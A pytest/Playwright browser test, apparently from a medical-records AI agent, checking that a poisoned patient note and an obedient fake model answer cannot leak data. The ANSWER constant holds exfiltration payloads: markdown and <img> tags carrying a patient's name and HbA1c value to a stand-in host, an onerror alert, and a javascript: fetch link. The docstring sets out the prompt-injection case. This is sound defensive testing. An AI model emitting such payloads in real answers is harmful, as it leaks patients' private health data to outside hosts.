"""Nothing external is rendered or fetched, in a real browser (headless Chromium, Playwright).

The poisoned note holds a markdown image and an <img> tag pointing at an outside host with
the patient's data in the URL; the (fake, obedient) model copies a markdown image, an HTML
image, a link and a `javascript:` link into its answer. The page is driven like a user: ask,
open the cited note passage, open the record panel's note. Every network request the page
makes is recorded (and any to a non-loopback host is blocked and counted), console messages
are recorded (a CSP violation would show there), and the DOM is inspected afterwards.

Expected: every request went to the app on loopback; no <img> (or any element) points
outside; the answer shows the markdown as text; no CSP violation was even triggered —
nothing tried to load. The CSP header is the second wall and is asserted too.
"""

from __future__ import annotations

from urllib.parse import urlparse

import pytest

from agent.fake_api import MessageReply, text_message, tool_use_message
from tests.adversarial.conftest import EXFIL_HOST
from tests.server.browser_support import ARTIFACTS, ask, log_in
from tests.server.conftest import PASSWORD, A, browser  # noqa: F401  (fixture)

pytestmark = pytest.mark.browser

ANSWER = (
    "Your last note says your diabetes is stable [N1].\n\n"
    f"![chart](https://{EXFIL_HOST}/collect?data=HbA1c-6.1-Alice-Anders)\n"
    f'<img src="https://{EXFIL_HOST}/pixel.png?d=6.1" onerror="alert(1)">\n'
    f"[see more](https://{EXFIL_HOST}/more) and [click](javascript:fetch('https://{EXFIL_HOST}/js'))"
)


def test_no_external_resource_is_rendered_or_fetched(serve_agent, world, poisoned, browser):  # noqa: F811
    live = serve_agent()
    live.api.enqueue(
        tool_use_message([("search_notes", {"query": "type 2 diabetes stable on metformin HbA1c 6.1"})]),
        MessageReply(text_message(ANSWER), chunk_chars=9),
    )
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    requests: list[str] = []
    blocked: list[str] = []
    console: list[str] = []

    def gate(route) -> None:
        host = urlparse(route.request.url).hostname
        if host in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            blocked.append(route.request.url)
            route.abort()

    page.route("**/*", gate)
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: console.append(f"{m.type}: {m.text}"))
    page.on("pageerror", lambda e: console.append(f"pageerror: {e}"))
    page.on("dialog", lambda d: (console.append(f"dialog: {d.message}"), d.dismiss()))

    log_in(page, live.url, "alice", PASSWORD)
    page.wait_for_url(f"**/patients/{A}")
    response = page.goto(f"{live.url}/patients/{A}")
    csp = response.headers["content-security-policy"]
    assert "img-src 'self' data:" in csp and "script-src 'self'" in csp and "default-src 'none'" in csp

    message = ask(page, "What did my last note say?")
    answer = message.locator(".answer").inner_text()
    assert f"![chart](https://{EXFIL_HOST}/collect" in answer  # shown as text, not rendered
    assert '<img src="https://' in answer
    # open the cited note passage (note text with the <img> tag and the markdown image)
    message.locator("button.cite", has_text="N1").click()
    dialog = page.locator("#record-dialog[open]")
    dialog.get_by_text("Whole note").wait_for()  # the page's CSP forbids eval: no wait_for_function
    dialog.get_by_text("Whole note").click()  # the full note, with its <img> tag, on screen
    note = dialog.locator(".full-text .note-text").inner_text()
    assert f"https://{EXFIL_HOST}/" in note and "<img" in note  # the note's image tag, as text
    page.screenshot(path=str(ARTIFACTS / "injection-note-opened.png"), full_page=True)

    outside = page.evaluate(
        """() => Array.from(document.querySelectorAll('*')).flatMap(el =>
            ['src', 'href', 'srcset', 'poster', 'data', 'action', 'background']
              .map(a => el.getAttribute(a)).filter(Boolean)
              .filter(v => !v.startsWith('/') && !v.startsWith('#') && !v.startsWith('data:')
                           && !v.startsWith(location.origin)))"""
    )
    assert outside == []
    assert page.evaluate("document.querySelectorAll('.answer img, #record-dialog img').length") == 0
    assert blocked == []  # nothing even tried to leave loopback …
    assert all(urlparse(u).hostname == "127.0.0.1" for u in requests), requests
    assert not any("Content Security Policy" in c or c.startswith("dialog") for c in console), console
    assert not any(c.startswith(("error", "pageerror")) for c in console), console
    context.close()
